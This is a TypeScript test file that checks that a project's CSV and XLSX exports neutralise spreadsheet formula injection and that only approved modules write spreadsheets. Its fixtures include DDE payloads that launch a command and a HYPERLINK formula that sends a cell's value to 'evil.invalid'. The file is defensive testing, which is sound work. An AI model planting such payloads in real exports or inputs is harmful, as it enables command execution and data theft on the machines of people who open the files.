import { readdirSync, readFileSync } from "node:fs";
import { csvLine, neutralise, unmarked } from "@shanhai/contract/spreadsheet-cell";
import { csvOf, utf8Csv } from "@shanhai/functions/csv-writer";
import { encodeGb18030 } from "@shanhai/functions/exports/gb18030";
import { writeXlsx } from "@shanhai/functions/xlsx-writer";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { streamXlsxRows } from "hucre/xlsx";
import { expect, test } from "vitest";

/* No file of ours has a cell that a spreadsheet would compute, whatever somebody typed; and what is a number or a phone stays one. */

const DDE = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
const FORMULAS = [
  ...DDE,
  ...['=HYPERLINK("http://evil.invalid?x="&A1,"点")', "=1", "+1+1", "-1-1", "@A1", "=", "--", "+"],
  ...["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u0000=1+1"],
  ...["＝1+1", "＋1＋1", "－1－1", "＠SUM(1)", "\u202e=1+1", "\t甲", "\r甲", "+8613912345678", "+86 139 1234 5678"],
];
const TEXTS = [
  "",
  "甲",
  "19912345678",
  "a=1",
  "甲\n=1+1",
  "'甲",
  "''=1",
  "1-1",
  '",=1+1',
  '";=1+1',
  "x\t=1+1",
  "甲;=1+1",
];
const NUMBERS = ["-5", "-1234.50", "+3.2%", "-0.5%", "-99999999999"];

test("what a spreadsheet would compute is marked, and nothing else; the mark comes off again", () => {
  for (const cell of FORMULAS) expect(neutralise(cell)).toBe(`'${cell}`);
  for (const cell of [...TEXTS, ...NUMBERS]) expect(neutralise(cell)).toBe(cell);
  for (const cell of [...FORMULAS, ...TEXTS, ...NUMBERS]) expect(unmarked(neutralise(cell))).toBe(cell);
  const typed = fc.string({ unit: "binary" }).filter((cell) => !cell.startsWith("'"));
  fc.assert(fc.property(typed, (cell) => unmarked(neutralise(cell)) === cell && !/^[=@]/.test(neutralise(cell))));
});

const asBefore = (cell: string) => (cell.startsWith("'") && FORMULAS.includes(cell.slice(1)) ? cell.slice(1) : cell);

test("CSV of it reads back cell by cell, in both encodings and where lists are told by another mark", () => {
  const cells = [...FORMULAS, ...TEXTS, ...NUMBERS];
  const rows = cells.map((cell, index) => [cell, cells.at(-index - 1) ?? "", -12.5]);
  const texts = [
    new TextDecoder().decode(utf8Csv(rows)),
    new TextDecoder("gb18030").decode(encodeGb18030(csvOf(rows))),
  ];
  for (const text of texts) {
    const read: string[][] = parse(text, { bom: true });
    expect(read.map((row) => row.map(asBefore))).toEqual(rows.map((row) => row.map(String)));
    expect(read.flat().filter((cell) => /^[\s\p{C}]*[=@＝＋－＠]|^[+-](?!\d{1,11}(\.\d+)?%?$)/u.test(cell))).toEqual(
      [],
    );
  }
  // No cell of ours ends in the midst where `;` or a tab parts cells.
  for (const delimiter of [";", "\t"]) {
    const parted: string[][] = parse(`${csvLine(["甲;=1+1"])}\r\n${csvLine(["乙\t=1+1"])}\r\n`, { delimiter });
    expect(parted).toEqual([["甲;=1+1"], ["乙\t=1+1"]]);
  }
});

test("a workbook of it has text and numbers, no formula, and the text as it was typed", async () => {
  const cells = [...FORMULAS, ...TEXTS, ...NUMBERS].filter((cell) => !cell.includes("\r") && !cell.includes("\u0000"));
  const bytes = await writeXlsx(
    "名单",
    cells.map((cell) => [cell, -12.5]),
  );
  const read: unknown[][] = [];
  for await (const { values } of streamXlsxRows(bytes)) read.push(values);
  expect(read.map(([cell]) => cell ?? "")).toEqual(cells);
  expect(read.every(([, number]) => number === -12.5)).toBe(true);
  const { readXlsx } = await import("hucre/xlsx");
  const { sheets } = await readXlsx(bytes);
  expect(JSON.stringify(sheets)).not.toContain('"formula"');
});

function sources(folder: URL): URL[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    if (["node_modules", "dist"].includes(entry.name)) return [];
    if (entry.isDirectory()) return sources(new URL(`${entry.name}/`, folder));
    return /\.tsx?$/.test(entry.name) ? [new URL(entry.name, folder)] : [];
  });
}

test("there is one way into a spreadsheet: nothing else writes one", () => {
  const root = new URL("../../", import.meta.url);
  // The demo's own files are what somebody else sends.
  const all = ["packages/", "functions/"]
    .flatMap((folder) => sources(new URL(folder, root)))
    .filter(({ href }) => !href.includes("/local/src/demo-"));
  const having = (words: RegExp) =>
    all
      .filter((file) => words.test(readFileSync(file, "utf8")))
      .map((file) => file.href.slice(root.href.length))
      .sort();
  expect(having(/XlsxStreamWriter|\bwriteSheet\b|new XlsxWriter/)).toEqual(["functions/xlsx-writer.ts"]);
  // Lines of a file, joined as CSV has them.
  expect(having(/\.join\("\\r\\n"\)/)).toEqual(["functions/csv-writer.ts", "packages/console/src/format/csv.ts"]);
  expect(having(/\bcsvLine\b/)).toEqual([
    "functions/csv-writer.ts",
    "packages/console/src/format/csv.ts",
    "packages/contract/src/spreadsheet-cell.ts",
  ]);
});
